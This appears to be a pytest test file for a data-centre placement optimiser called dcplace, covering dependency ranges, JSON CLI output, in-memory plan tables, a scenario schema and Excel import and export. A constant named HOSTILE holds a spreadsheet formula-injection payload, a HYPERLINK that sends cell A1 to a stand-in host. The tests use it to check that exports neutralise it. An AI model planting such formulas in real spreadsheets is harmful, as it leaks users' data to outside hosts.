"""dcplace in the Python ecosystem (issue 52): version ranges and a constraints file, a
machine-readable CLI (--json, one exit-code table, --verbose), the plan's tables in memory
(Plan.frames, plan_layers), the scenario's JSON Schema, Excel workbooks in and out, and the
API reference. This file is also CI's second step, run against the newest versions the ranges
allow (README.md, "Versions"): between them, its tests import every core dependency.
"""

from __future__ import annotations

import json
import re
import shutil
import tomllib
from pathlib import Path

import pandas as pd
import pytest
import yaml
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

import dcplace
from dcplace.cli import app
from dcplace.reports.terminal import EXIT_CODE_MEANINGS, ExitCode
from helpers import job, make_scenario, region, site

ROOT = Path(__file__).resolve().parent.parent
runner = CliRunner()

HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"click")'


# ------------------------------------------------------------------ versions


def _name(requirement: str) -> str:
    return re.split(r"[<>=!~; \[]", requirement, maxsplit=1)[0].lower().replace("_", "-")


def test_ranges_not_pins_and_a_constraints_file():
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    assert "<" not in project["requires-python"] and ">=3.11" in project["requires-python"]
    core = project["dependencies"]
    assert not [r for r in core if "==" in r], "core dependencies are ranges, not pins"
    assert all(">=" in r for r in core), "every dependency states the oldest version known to work"
    pins = {}
    for line in (ROOT / "constraints.txt").read_text().splitlines():
        if line.strip() and not line.startswith("#"):
            name, version = line.split("==")
            pins[name.lower().replace("_", "-")] = version
    extras = project["optional-dependencies"]
    for requirement in core + extras["test"]:
        assert _name(requirement) in pins, f"{requirement} has no tested version in constraints.txt"
    # the quick start's two commands and CI install the tested set
    readme = (ROOT / "README.md").read_text()
    assert readme.count("-c constraints.txt") >= 2
    ci = (ROOT / ".ci" / "run").read_text()
    assert "-c constraints.txt" in ci and "python -m pytest tests\n" in ci
    assert re.search(r"pip install .*-e '\.\[test\]'(?! -c)", ci), "CI's second step installs without the constraints"


def test_exit_codes_one_table_in_readme_and_help():
    readme = " ".join((ROOT / "README.md").read_text().split())
    for code, meaning in EXIT_CODE_MEANINGS.items():
        if code < 100:
            assert f"`{int(code)}` {meaning}" in readme, f"README's exit code {int(code)} differs from reports.terminal.EXIT_CODE_MEANINGS"
    shown = " ".join(runner.invoke(app, ["--help"], terminal_width=200).output.split())
    for code, meaning in EXIT_CODE_MEANINGS.items():
        assert f"{int(code)}: {meaning}" in shown


# ------------------------------------------------------------------ a small solved plan


def _world(folder: Path, **site_b) -> Path:
    return make_scenario(
        folder,
        sites=[site("a", 0, 0, name=HOSTILE), site("b", 0, 1, power_price_usd_per_mwh=30, **site_b)],
        regions=[region("town", 0, 0.2, chat=2000, budget=5), region("city", 0, 1.1, chat=900, budget=5)],
        jobs=[job("pretrain", 96)],
    )


@pytest.fixture(scope="module")
def solved(tmp_path_factory):
    root = tmp_path_factory.mktemp("eco")
    path = _world(root / "in")
    plan, report = dcplace.solve_to_folder(path, root / "plan", dcplace.SolveOptions(mip_gap=0.0, time_limit_s=60))
    assert report.ok
    return root / "plan", plan, dcplace.load_scenario(path)


# ------------------------------------------------------------------ --json and --verbose


def test_check_json_pass_fail_and_not_a_plan(solved, tmp_path):
    folder = solved[0]
    result = runner.invoke(app, ["check", str(folder), "--json"])
    doc = json.loads(result.stdout)
    assert result.exit_code == 0 and doc["exit_code"] == 0 and doc["status"] == "pass" and doc["violations"] == []
    assert doc["plan_status"] == "optimal" and doc["checked"] and doc["recomputed_cost_usd_per_year"] > 0

    broken = tmp_path / "broken"
    shutil.copytree(folder, broken)
    data = json.loads((broken / "plan.json").read_text())
    data["sites"][0]["racks_total"] += 7
    (broken / "plan.json").write_text(json.dumps(data))
    result = runner.invoke(app, ["check", str(broken), "--json"])
    doc = json.loads(result.stdout)
    assert result.exit_code == ExitCode.CHECK_FAILED == doc["exit_code"] and doc["status"] == "fail"
    assert doc["violations"] and all(set(v) == {"family", "message", "registry_families"} for v in doc["violations"])

    result = runner.invoke(app, ["check", str(tmp_path), "--json"])
    doc = json.loads(result.stdout)
    assert result.exit_code == ExitCode.BAD_INPUT == doc["exit_code"] and doc["status"] == "bad_input"
    assert "not a plan folder" in doc["message"]


def test_validate_json_good_and_bad(tmp_path):
    good = _world(tmp_path / "good")
    result = runner.invoke(app, ["validate", str(good), "--json"])
    doc = json.loads(result.stdout)
    assert result.exit_code == 0 and doc["status"] == "ok" and doc["problems"] == [] and doc["sites"] == 2

    bad = _world(tmp_path / "bad", power_limit_kw="lots")
    result = runner.invoke(app, ["validate", str(bad), "--json"])
    doc = json.loads(result.stdout)
    assert result.exit_code == ExitCode.BAD_INPUT == doc["exit_code"] and doc["status"] == "bad_input"
    [problem] = doc["problems"]
    assert problem["file"] == "sites.csv" and problem["row"] == 3 and problem["field"] == "power_limit_kw" and problem["fix"]


def test_solve_json_for_a_plan_and_for_an_infeasible_scenario(tmp_path):
    path = _world(tmp_path / "in")
    result = runner.invoke(app, ["solve", str(path), "--out", str(tmp_path / "plan"), "--json", "--gap", "0"])
    doc = json.loads(result.stdout)
    assert result.exit_code == 0 == doc["exit_code"] and doc["status"] == "optimal" and doc["folder"] == str(tmp_path / "plan")
    assert doc["objective_usd_per_year"] == pytest.approx(dcplace.read_plan(tmp_path / "plan").objective_usd_per_year)
    assert doc["sites_open"] >= 1 and "usd_per_m_tokens" in doc["kpis"]

    capped = make_scenario(tmp_path / "capped", [site("a", 40.0, -74.0)], [region("r", 40.1, -74.0)],
                           policies={"carbon_cap_t_per_year": 1.0})
    result = runner.invoke(app, ["solve", str(capped), "--out", str(tmp_path / "none"), "--json"])
    doc = json.loads(result.stdout)
    assert result.exit_code == ExitCode.INFEASIBLE == doc["exit_code"] and doc["status"] == "infeasible"
    assert any("carbon" in line for line in doc["diagnosis"])


def test_verbose_shows_the_engines_log(tmp_path):
    path = _world(tmp_path / "in")
    quiet = runner.invoke(app, ["solve", str(path), "--out", str(tmp_path / "p1"), "--quiet", "--time-limit", "60"])
    assert quiet.exit_code == 0 and "dcplace.optimizer" not in quiet.stderr
    loud = runner.invoke(app, ["--verbose", "solve", str(path), "--out", str(tmp_path / "p2"), "--quiet", "--time-limit", "60"])
    assert loud.exit_code == 0, loud.output
    assert "dcplace.optimizer.solving.progress: phase build" in loud.stderr
    assert re.search(r"dcplace\.optimizer\.solving\.solve: tiny: optimal by highs", loud.stderr)
    assert "phase" not in loud.stdout  # the log goes to stderr; stdout keeps the one summary line


# ------------------------------------------------------------------ results in memory


def test_frames_are_the_plan_folders_tables(solved):
    folder, _, _ = solved
    frames = dcplace.read_plan(folder).frames()
    on_disk = {p.stem for p in folder.glob("*.csv")}
    assert set(frames) == on_disk == {"sites", "assignments", "jobs"}
    for name, frame in frames.items():
        csv = pd.read_csv(folder / f"{name}.csv")
        assert list(frame.columns) == list(csv.columns), name
        assert len(frame) == len(csv)
        numbers = [c for c in csv.columns if pd.api.types.is_numeric_dtype(csv[c]) and not pd.api.types.is_bool_dtype(csv[c])]
        pd.testing.assert_frame_equal(frame[numbers].astype(float), csv[numbers].astype(float), check_exact=False)
    # names exactly as solved (the CSV carries the spreadsheet quote, the frame does not)
    assert HOSTILE in set(frames["sites"]["name"])
    assert "'" + HOSTILE in set(pd.read_csv(folder / "sites.csv")["name"])


def test_frames_with_the_clock_hold_its_tables_too(tmp_path):
    profiles = [{"workload": "chat", "local_hour": h, "load": 1.0 if 9 <= h < 18 else 0.5, "region": ""} for h in range(24)]
    path = make_scenario(tmp_path / "in", sites=[site("hub", 0, 0)], regions=[region("r", 0, 0.5, chat=800)],
                         tables={"profiles": profiles}, sections={"clock": {"hours": 4, "routing": "hour"}})
    plan, report = dcplace.solve_to_folder(path, tmp_path / "plan", dcplace.SolveOptions(mip_gap=0.0, time_limit_s=60))
    assert report.ok
    frames = plan.frames()
    assert set(frames) == {p.stem for p in (tmp_path / "plan").glob("*.csv")} >= {"hourly", "dispatch", "routing"}
    for name, frame in frames.items():
        assert list(frame.columns) == list(pd.read_csv(tmp_path / "plan" / f"{name}.csv").columns), name
    assert len(frames["hourly"]) > 0 and len(frames["routing"]) > 0


def test_plan_layers_in_memory_match_the_folders(solved):
    folder, plan, scenario = solved
    layers = dcplace.plan_layers(plan, scenario)
    from dcplace.reports import load_plan_layers

    on_disk = load_plan_layers(folder).layers()
    assert set(layers) == set(on_disk) == {"sites", "regions", "assignments"}
    for name, frame in layers.items():
        assert frame.crs.to_epsg() == 4326 and frame.geometry.name == "geometry"
        assert list(frame.columns) == list(on_disk[name].columns), name
        assert len(frame) == len(on_disk[name])


# ------------------------------------------------------------------ the scenario's JSON Schema


def test_schema_validates_the_exported_default(tmp_path):
    jsonschema = pytest.importorskip("jsonschema")
    out = tmp_path / "scenario.schema.json"
    result = runner.invoke(app, ["data", "schema", str(out)])
    assert result.exit_code == 0, result.output
    schema = json.loads(out.read_text())
    jsonschema.Draft202012Validator.check_schema(schema)
    validator = jsonschema.Draft202012Validator(schema)

    assert runner.invoke(app, ["data", "export", str(tmp_path / "world")]).exit_code == 0
    world = tmp_path / "world"
    assert json.loads((world / "scenario.schema.json").read_text()) == schema == dcplace.scenario_json_schema()
    for name in ("scenario.yaml", "years.yaml"):
        text = (world / name).read_text()
        assert text.splitlines()[0] == "# yaml-language-server: $schema=scenario.schema.json"
        assert list(validator.iter_errors(yaml.safe_load(text))) == [], name
    assert dcplace.load_scenario(world / "scenario.yaml").name == "default-world"  # the stamp is a comment

    spec = yaml.safe_load((world / "scenario.yaml").read_text())
    wrong = {**spec, "economics": {**spec["economics"], "discount_rat": 0.1}, "polices": {}}
    messages = " ".join(e.message for e in validator.iter_errors(wrong))
    assert "discount_rat" in messages and "polices" in messages
    assert list(validator.iter_errors({**spec, "latency": {"route_factor": "fast"}}))
    # a file of the user's is never replaced
    (tmp_path / "mine.json").write_text("{}")
    assert runner.invoke(app, ["data", "schema", str(tmp_path / "mine.json")]).exit_code == ExitCode.BAD_INPUT
    assert runner.invoke(app, ["data", "schema", str(out)]).exit_code == 0  # its own: written again


# ------------------------------------------------------------------ Excel


def _sites_workbook(scenario_path: Path, sheet: str = "Sites") -> tuple[Path, Workbook]:
    """The scenario's sites.csv moved into the sheet `sheet` of book.xlsx (after a cover sheet),
    the scenario pointed at it."""
    folder = scenario_path.parent
    frame = pd.read_csv(folder / "sites.csv", keep_default_na=False)
    book = Workbook()
    book.active.title = "Read me"
    book.active.append(["Candidate sites, broker quotes of 2026-11"])
    ws = book.create_sheet(sheet)
    ws.append(list(frame.columns))
    for row in frame.itertuples(index=False):
        ws.append([v.item() if hasattr(v, "item") else v for v in row])
    for cells in ws.iter_rows():
        for cell in cells:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # a name that starts with '=' is text typed into the cell, not a formula
    book.save(folder / "book.xlsx")
    (folder / "sites.csv").unlink()
    spec = yaml.safe_load(scenario_path.read_text())
    spec["sites"] = f"book.xlsx#{sheet}"
    scenario_path.write_text(yaml.safe_dump(spec))
    return folder / "book.xlsx", book


def test_xlsx_site_list_validates_and_solves(tmp_path):
    path = _world(tmp_path / "in")
    _sites_workbook(path)
    result = runner.invoke(app, ["validate", str(path), "--json"])
    doc = json.loads(result.stdout)
    assert result.exit_code == 0 and doc["sites"] == 2
    # checks after loading (a site at sea: a warning) number the sheet's rows as the loader does
    assert sorted(w["row"] for w in doc["warnings"] if w["file"].startswith("book.xlsx")) == [2, 3]
    plan, report = dcplace.solve_to_folder(path, tmp_path / "plan", dcplace.SolveOptions(mip_gap=0.0, time_limit_s=60))
    assert report.ok and plan.solve.status == "optimal"
    csv_plan, _ = dcplace.solve_to_folder(_world(tmp_path / "csv"), tmp_path / "plan-csv", dcplace.SolveOptions(mip_gap=0.0, time_limit_s=60))
    assert plan.objective_usd_per_year == pytest.approx(csv_plan.objective_usd_per_year, rel=1e-9)  # the same sites, the same plan


def test_xlsx_bad_cell_named_by_sheet_row_and_column(tmp_path):
    path = _world(tmp_path / "in")
    xlsx, book = _sites_workbook(path)
    ws = book["Sites"]
    column = [c.value for c in ws[1]].index("power_limit_kw")
    ws.cell(row=3, column=column + 1, value="lots")
    book.save(xlsx)
    with pytest.raises(dcplace.ScenarioError) as caught:
        dcplace.load_scenario(path)
    [problem] = caught.value.problems
    letter = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[column]
    assert (problem.file, problem.row, problem.field) == ("book.xlsx, sheet 'Sites'", 3, "power_limit_kw")
    assert f"cell {letter}3" in problem.message and "'lots'" in problem.message and problem.fix
    # the same cell in a CSV: the same message, less the cell
    csv_path = _world(tmp_path / "csv", power_limit_kw="lots")
    with pytest.raises(dcplace.ScenarioError) as from_csv:
        dcplace.load_scenario(csv_path)
    assert problem.message.startswith(from_csv.value.problems[0].message.rstrip("."))

    spec = yaml.safe_load(path.read_text())
    spec["sites"] = "book.xlsx#Quotes"
    path.write_text(yaml.safe_dump(spec))
    with pytest.raises(dcplace.ScenarioError) as missing:
        dcplace.load_scenario(path)
    assert "no sheet 'Quotes'" in str(missing.value) and "'Sites'" in str(missing.value)


def test_xlsx_formula_without_value_and_error_cells(tmp_path):
    path = _world(tmp_path / "in")
    xlsx, book = _sites_workbook(path)
    ws = book["Sites"]
    header = [c.value for c in ws[1]]
    ws.cell(row=2, column=header.index("floor_racks") + 1, value="=10*10")  # never calculated: no saved value
    ws.cell(row=3, column=header.index("power_price_usd_per_mwh") + 1, value="#DIV/0!")
    book.save(xlsx)
    with pytest.raises(dcplace.ScenarioError) as caught:
        dcplace.load_scenario(path)
    text = str(caught.value)
    assert "row 2, field 'floor_racks'" in text and "formula =10*10 but no saved value" in text
    assert "row 3, field 'power_price_usd_per_mwh'" in text and "#DIV/0!" in text


def test_export_xlsx_workbook(solved, tmp_path):
    folder, plan, _ = solved
    result = runner.invoke(app, ["export", str(folder), "--format", "xlsx", "--out", str(tmp_path / "x")])
    assert result.exit_code == 0, result.output
    book = load_workbook(tmp_path / "x" / "plan.xlsx")
    frames = plan.frames()
    assert book.sheetnames == ["summary", *frames, "regions"]
    for name, frame in frames.items():
        assert [c.value for c in book[name][1]] == list(frame.columns), name
        assert book[name].max_row == len(frame) + 1
    names = [c.value for c in book["sites"]["B"][1:]]
    assert "'" + HOSTILE in names  # neutralised, as in the CSVs
    assert all(c.data_type == "s" for c in book["sites"]["B"])  # text, never a formula
    summary = {r[0].value: r[1].value for r in book["summary"].iter_rows(min_row=2)}
    assert summary["objective_usd_per_year"] == pytest.approx(plan.objective_usd_per_year)
    assert summary["status"] == "optimal"


# ------------------------------------------------------------------ API reference


def test_api_reference_is_current():
    import importlib.util

    spec = importlib.util.spec_from_file_location("build_api", ROOT / "docs" / "build_api.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    assert (ROOT / "docs" / "api.md").read_text() == module.api_markdown(), "run `python docs/build_api.py`"
    for name in dcplace.__all__:
        assert f"`{name}" in (ROOT / "docs" / "api.md").read_text()
